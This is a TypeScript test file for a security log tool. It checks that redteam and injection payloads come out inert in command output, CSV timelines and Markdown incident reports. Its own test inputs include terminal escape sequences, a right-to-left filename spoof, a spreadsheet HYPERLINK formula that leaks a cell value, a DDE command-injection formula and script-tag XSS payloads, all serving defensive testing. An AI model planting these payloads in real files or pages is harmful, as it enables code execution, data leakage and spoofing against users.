import { execFile } from 'node:child_process';
import { mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { UNSEEN } from '../../src/base/inert.ts';
import { unixMsFrom } from '../../src/base/time.ts';
import { carriersFor } from '../../src/cli/redteam/carriers.ts';
import { lookAt } from '../../src/cli/redteam/look.ts';
import { type Payload, readPayloads } from '../../src/cli/redteam/payloads.ts';
import { clearLine, guardTerminal } from '../../src/cli/terminal.ts';
import { incidentReport, timelineCsv } from '../../src/core/study/report/incident-report.ts';
import { timelineOf } from '../../src/core/study/timeline.ts';
import { dataFile } from '../data/present.ts';
import { codeSpans, readCsv } from './read-back.ts';

const MAIN = fileURLToPath(new URL('../../src/cli/main.ts', import.meta.url));
const DATA = dataFile('injection');

/** Of our own writing, one for each thing that a renderer could be made to do. */
const OURS: readonly string[] = [
  '\u001b[2J\u001b]0;owned\u0007\u009b31mred\r fake line',
  'a\u202egpj.exe\u2066\u200b\u{e0041}\u{e0042}\ufe0f',
  `=HYPERLINK("https://example.org/?"&A1,"open")`,
  "+cmd|' /C calc'!A0\n-1+1\n@SUM(1)",
  '[click](https://example.org) ![](https://example.org/a.png) <img src=x onerror=alert(1)> `` ` ``` \n# heading\n| a | b |',
  '</code></pre><script>alert(1)</script>',
];

let payloads: readonly Payload[] = [];
let folder = '';

beforeAll(async () => {
  const own = OURS.map((text, index) => ({ id: `own-${index}`, text, carrier: undefined, goal: '' }));
  const names = DATA === undefined ? [] : (await readdir(DATA)).filter(name => name.endsWith('.ndjson'));
  const files = await Promise.all(names.map(name => readPayloads(join(DATA ?? '', name))));
  payloads = [...own, ...files.flatMap(file => file.payloads)];
  folder = await mkdtemp(join(tmpdir(), 'countersign-rendering-'));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const named = DATA === undefined ? ' (of our own; the files need ../shared/data/injection)' : '';
const hidden = (text: string): readonly string[] => [...text.replaceAll('\n', '').matchAll(UNSEEN)].map(([one]) => one);

describe(`every payload${named}`, () => {
  test('is of visible characters alone in what any command prints of it', { timeout: 240_000 }, async () => {
    const [file, lines] = [join(folder, 'records.ndjson'), join(folder, 'lines.log')];
    const started = Date.parse('2026-05-04T09:00:00Z');
    const record = ({ id, text }: Payload, at: number): string =>
      JSON.stringify({
        id,
        time: new Date(started + at * 60_000).toISOString(),
        rule_name: text,
        user: text,
        host: text,
        message: text,
        [text]: text,
      });
    await writeFile(file, payloads.map(record).join('\n'));
    await writeFile(lines, payloads.map(({ text }) => `<38>May  4 09:00:00 db-7 sshd[7]: ${text}`).join('\n'));
    for (const command of ['normalize', 'correlate', 'timeline', 'coverage', 'summarize']) {
      for (const input of [file, lines]) {
        const { stdout, stderr } = await promisify(execFile)(
          process.execPath,
          ['--import', 'tsx', MAIN, command, input],
          { maxBuffer: 512 * 1_048_576 },
        );
        expect([command, hidden(stdout), hidden(stderr)]).toEqual([command, [], []]);
        if (command !== 'coverage') expect(stdout.length).toBeGreaterThan(1_000);
        if (command === 'summarize') JSON.parse(stdout);
        else for (const line of stdout.split('\n').filter(one => one !== '')) JSON.parse(line);
      }
    }
    const { stdout } = await promisify(execFile)(process.execPath, [
      '--import',
      'tsx',
      MAIN,
      'enrich',
      OURS[1] ?? '',
    ]).catch((error: { readonly stdout: string; readonly stderr: string }) => ({
      stdout: error.stdout + error.stderr,
    }));
    expect(hidden(stdout)).toEqual([]);
  });

  test('is no formula, and one cell, in the CSV of a timeline', () => {
    for (const { text, carrier } of payloads) {
      const [first] = carriersFor(carrier);
      const entry = lookAtOnce(first?.bytes(text));
      const told = [{ ...entry, text, product: text, who: [text] }];
      const read = readCsv(timelineCsv(told));
      expect(read.map(row => row.length)).toEqual([9, 9]);
      for (const cell of read.flat()) {
        expect(cell).not.toMatch(/^\s*[=+\-@]/);
        expect(hidden(cell)).toEqual([]);
      }
    }
  });

  test('is neither markup, link, image nor HTML in the Markdown of an incident', { timeout: 120_000 }, () => {
    const every = DATA === undefined ? 1 : 4;
    for (const { text, carrier } of payloads.filter((_, index) => index % every === 0 || index < OURS.length)) {
      const [first] = carriersFor(carrier);
      if (first === undefined) continue;
      const { summary, options } = lookAt(first.bytes(text));
      const badge = { evidence: 'evd_1', pointer: `/${text}`, why: 'addresses an AI' };
      const headline = {
        ...summary.headline,
        text,
        citations: [{ evidence: 'evd_1' as const, pointer: '/a', value: text }],
      };
      const report = incidentReport({
        id: 'inc_1',
        summary: { ...summary, headline },
        options,
        instructionBadges: [badge],
        writtenAt: unixMsFrom(0),
      });
      expect(hidden(report)).toEqual([]);
      for (const line of report.split('\n')) expect(codeSpans(line).rest).toMatch(OUR_WORDS);
    }
  });
});

/** Lines of a report without their code spans hold words of ours: nothing that Markdown or GitHub would make a link of. */
const OUR_WORDS = /^(?:#{1,2} )?(?: {2})?(?:- )?[A-Za-z0-9 ,.:;()-]*$/;

let entry: ReturnType<typeof timelineOf>[number] | undefined;

function lookAtOnce(bytes: Uint8Array | undefined): ReturnType<typeof timelineOf>[number] {
  entry ??= timelineOf(lookAt(bytes ?? new Uint8Array()).members, [], unixMsFrom(0))[0];
  if (entry === undefined) throw new Error('no entry');
  return entry;
}

describe('a guarded stream', () => {
  const written = (): { readonly stream: Writable; text(): string } => {
    const chunks: Buffer[] = [];
    const stream = new Writable({
      write(chunk: Buffer, _, done) {
        chunks.push(chunk);
        done();
      },
    });
    guardTerminal(stream);
    guardTerminal(stream);
    return { stream, text: () => Buffer.concat(chunks).toString() };
  };

  test('passes bytes on, writes text inert, and alone clears the line', () => {
    const { stream, text } = written();
    stream.write('\u001b[2Ja\n');
    stream.write(Buffer.from([0x1b, 0x0a]));
    clearLine(stream);
    expect(text()).toBe('\\u001b[2Ja\n\u001b\n\r\u001b[K');
  });
});
